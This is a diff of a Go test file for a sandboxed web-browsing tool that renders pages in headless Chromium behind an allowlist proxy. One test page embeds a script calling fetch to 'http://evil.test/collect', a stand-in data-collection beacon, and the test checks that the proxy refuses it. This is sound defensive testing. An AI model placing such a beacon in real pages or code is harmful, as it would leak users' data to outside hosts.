@@ -5,12 +5,17 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/istota/istota/sidecar/internal/approval"
 	"github.com/istota/istota/sidecar/internal/netproxy"
+	"github.com/istota/istota/sidecar/internal/render"
+	"github.com/istota/istota/sidecar/internal/sandbox/sandboxtest"
+	"github.com/istota/istota/sidecar/internal/sandbox/testrunner"
 	"github.com/istota/istota/sidecar/internal/skills"
 	"github.com/istota/istota/sidecar/internal/webfetch"
 )
@@ -39,6 +44,12 @@ const page = `<!DOCTYPE html>
 </main>
 <footer>Copyright footer</footer>
 </body></html>`
+
+func TestMain(m *testing.M) {
+	code := m.Run()
+	sandboxtest.Cleanup()
+	os.Exit(code)
+}
 
 type events struct {
 	mu   sync.Mutex
@@ -233,5 +244,105 @@ func TestClassify(t *testing.T) {
 	}
 	if a := classify(context.Background(), skills.Invocation{Args: []string{"--bogus"}}); a.Tier != approval.TierRead {
 		t.Errorf("a call refused as usage: %+v", a)
+	}
+}
+
+const appPage = `<!DOCTYPE html><html><head><title>Ferry</title></head><body>
+<div id="root"></div><noscript>This app needs JavaScript.</noscript>
+<script>
+document.getElementById("root").innerHTML = "<h1>Timetable</h1><p>Boats leave at " + (4 + 5) + " o'clock.</p>";
+fetch("http://evil.test/collect?d=1").catch(function () {});
+</script></body></html>`
+
+func renderServer(t *testing.T) (*httptest.Server, string) {
+	t.Helper()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		switch r.URL.Path {
+		case "/app":
+			w.Write([]byte(appPage))
+		case "/trips":
+			w.Write([]byte(page))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	u, _ := url.Parse(srv.URL)
+	return srv, u.Host
+}
+
+// newRenderingSkill is the skill with a real renderer: Chromium in a real sandbox whose
+// only way out is a proxy with the same allowlist.
+func newRenderingSkill(t *testing.T, hp string) (skills.Skill, *events) {
+	t.Helper()
+	if _, err := os.Stat(render.DefaultChromium); err != nil {
+		t.Fatalf("this test needs Debian's chromium (scripts/deps.sh): %v", err)
+	}
+	rules, err := netproxy.ParseRules([]string{hp})
+	if err != nil {
+		t.Fatal(err)
+	}
+	runner, _ := testrunner.Runner(t)
+	r, err := render.New(render.Options{Runner: runner, Proxy: netproxy.Options{Allow: rules, AllowPrivate: []string{hp}}, Timeout: 45 * time.Second})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ev := &events{}
+	sk, err := Skill(Options{Fetcher: webfetch.New(webfetch.Options{Allow: rules, AllowPrivate: []string{hp}}), Events: ev, Renderer: r})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return sk, ev
+}
+
+// TestBrowseRendersScripts: a page whose text a script writes reads empty when fetched,
+// and, where rendering is enabled, is rendered by itself and read in full; the
+// browser's requests, the refused one too, are in the task's events.
+func TestBrowseRendersScripts(t *testing.T) {
+	srv, hp := renderServer(t)
+
+	plain, _ := newSkill(t, []string{hp}, []string{hp})
+	r := invoke(plain, srv.URL+"/app")
+	if r.ExitCode != 0 || strings.Contains(string(r.Stdout), "Boats leave") {
+		t.Fatalf("without rendering: exit %d, %q", r.ExitCode, r.Stdout)
+	}
+	r = invoke(plain, "--render", srv.URL+"/app")
+	if r.ExitCode != 1 || !strings.Contains(string(r.Stderr), "not enabled on this server") {
+		t.Fatalf("--render without a renderer: exit %d, %q", r.ExitCode, r.Stderr)
+	}
+
+	sk, ev := newRenderingSkill(t, hp)
+	r = invoke(sk, srv.URL+"/app")
+	out := string(r.Stdout)
+	if r.ExitCode != 0 {
+		t.Fatalf("exit %d: %s", r.ExitCode, r.Stderr)
+	}
+	for _, w := range []string{"(rendered with JavaScript in a headless browser)", "# Timetable", "Boats leave at 9 o'clock."} {
+		if !strings.Contains(out, w) {
+			t.Errorf("output lacks %q:\n%s", w, out)
+		}
+	}
+	got := ev.all()
+	for _, w := range []string{
+		"fetch browse GET " + srv.URL + "/app → 200 text/html",
+		"fetch browse render " + srv.URL + "/app → document of ",
+		"fetch browse render: GET " + srv.URL + "/app allowed",
+		"fetch browse render: GET http://evil.test/collect?d=1 refused (host not allowed)",
+	} {
+		if !strings.Contains(got, w) {
+			t.Errorf("events lack %q:\n%s", w, got)
+		}
+	}
+
+	// A page with text of its own is not rendered unless asked.
+	before := strings.Count(ev.all(), "browse render")
+	r = invoke(sk, srv.URL+"/trips")
+	if r.ExitCode != 0 || strings.Contains(string(r.Stdout), "rendered with JavaScript") || strings.Count(ev.all(), "browse render") != before {
+		t.Errorf("a static page was rendered: %q\n%s", r.Stdout, ev.all())
+	}
+	r = invoke(sk, "--render", srv.URL+"/trips")
+	if r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "rendered with JavaScript") || !strings.Contains(string(r.Stdout), "Paddle the Danube in spring.") {
+		t.Errorf("--render: exit %d %q", r.ExitCode, r.Stdout)
 	}
 }
